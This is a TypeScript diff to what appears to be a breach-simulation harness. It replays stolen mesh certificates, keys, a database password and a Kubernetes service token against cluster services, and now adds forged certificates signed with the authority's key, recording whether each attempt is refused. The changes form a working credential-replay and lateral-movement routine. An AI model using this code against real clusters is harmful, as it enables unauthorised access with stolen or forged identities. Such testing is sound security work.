@@ -11,7 +11,7 @@ import { once } from "node:events";
 import { connect, type ConnectionOptions, type TLSSocket } from "node:tls";
 
 interface Attempt {
-  readonly credential: "certificate" | "password" | "token";
+  readonly credential: "certificate" | "forged certificate" | "password" | "token";
   readonly target: string;
   readonly connection: "fresh" | "kept" | "watch";
   /** `silent`: nobody there, or nothing said; that is no refusal. */
@@ -20,9 +20,12 @@ interface Attempt {
 }
 type Outcome = Pick<Attempt, "outcome" | "detail">;
 
-interface Loot {
+interface Identity {
   readonly certificate: string;
   readonly key: string;
+}
+
+interface Loot extends Identity {
   readonly password: string;
 }
 
@@ -46,6 +49,11 @@ const database = {
   database: setting("DATABASE_NAME"),
 };
 const api = { host: setting("KUBERNETES_SERVICE_HOST"), port: Number(setting("KUBERNETES_SERVICE_PORT")) };
+/** A certificate that he has made himself, where he has the authority's key. */
+const forged: Identity | null =
+  env["FORGED_CERTIFICATE"] === undefined
+    ? null
+    : { certificate: env["FORGED_CERTIFICATE"], key: setting("FORGED_KEY") };
 /** Of members whose address names no other. */
 const meshPort = setting("MESH_PORT");
 /** The image's own driver: this file lies beside no modules. */
@@ -120,13 +128,13 @@ function keep(socket: TLSSocket, request: string, refusals: readonly string[]): 
 const meshRefusals = ["401", "403"];
 const apiRefusals = ["401"];
 
-async function freshMesh(address: string, { certificate, key }: Loot): Promise<TLSSocket | Outcome> {
+async function freshMesh(address: string, { certificate, key }: Identity): Promise<TLSSocket | Outcome> {
   const [host = "", port = meshPort] = address.split(":");
   return dial({ host, port: Number(port), cert: certificate, key, minVersion: "TLSv1.3" });
 }
 
-async function tryMesh(address: string, stolen: Loot): Promise<Outcome> {
-  const socket = await freshMesh(address, stolen);
+async function tryMesh(address: string, shown: Identity): Promise<Outcome> {
+  const socket = await freshMesh(address, shown);
   if ("outcome" in socket) return socket;
   const outcome = await exchange(socket, meshRequest, meshRefusals);
   socket.destroy();
@@ -245,6 +253,17 @@ function bodyOf(answer: string): string {
 
 type Target = readonly [name: string, address: string];
 
+/** Every member, with every certificate that he has. */
+function doorsOf(mesh: readonly Target[], stolen: Identity) {
+  const identities = [
+    { credential: "certificate" as const, shown: stolen },
+    ...(forged === null ? [] : [{ credential: "forged certificate" as const, shown: forged }]),
+  ];
+  return mesh.flatMap(([target, address]) =>
+    identities.map((identity) => ({ ...identity, target, address })),
+  );
+}
+
 async function strike(mesh: readonly Target[]): Promise<readonly Attempt[]> {
   const opened = await tryToken();
   const attempts: Attempt[] = [{ credential: "token", target: "the API", connection: "fresh", ...opened }];
@@ -254,11 +273,11 @@ async function strike(mesh: readonly Target[]): Promise<readonly Attempt[]> {
   const stolen = { certificate: certs["tls.crt"] ?? "", key: certs["tls.key"] ?? "", password };
   loot = stolen;
   await Promise.all(
-    mesh.map(async ([target, address]) => {
-      const socket = await freshMesh(address, stolen);
+    doorsOf(mesh, stolen).map(async ({ credential, target, address, shown }) => {
+      const socket = await freshMesh(address, shown);
       if ("outcome" in socket) return;
-      const link = { credential: "certificate", target, connection: "kept" } as const;
-      kept.set(`certificate ${target}`, { ...link, ...keep(socket, meshRequest, meshRefusals) });
+      const link = { credential, target, connection: "kept" } as const;
+      kept.set(`${credential} ${target}`, { ...link, ...keep(socket, meshRequest, meshRefusals) });
     }),
   );
   const client = await connectDatabase(password).catch(() => null);
@@ -288,11 +307,11 @@ async function tryAll(mesh: readonly Target[]): Promise<readonly Attempt[]> {
     return [{ credential: "token", target: "the API", connection: "fresh", ...(await tryToken()) }];
   }
   const fresh = [
-    ...mesh.map(async ([target, address]): Promise<Attempt> => ({
-      credential: "certificate",
+    ...doorsOf(mesh, stolen).map(async ({ credential, target, address, shown }): Promise<Attempt> => ({
+      credential,
       target,
       connection: "fresh",
-      ...(await tryMesh(address, stolen)),
+      ...(await tryMesh(address, shown)),
     })),
     tryDatabase(stolen.password).then((outcome): Attempt => ({
       credential: "password",
